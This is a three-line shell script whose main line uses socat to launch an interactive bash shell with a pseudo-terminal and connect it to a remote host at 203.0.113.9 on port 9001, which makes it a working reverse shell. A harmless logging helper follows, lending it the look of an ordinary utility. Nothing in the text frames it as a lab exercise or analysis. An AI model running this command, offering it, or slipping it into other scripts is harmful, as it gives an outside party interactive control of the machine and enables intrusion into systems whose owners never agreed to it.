#!/bin/sh
socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.9:9001
log() { echo "[$(date +%H:%M:%S)] $*"; }
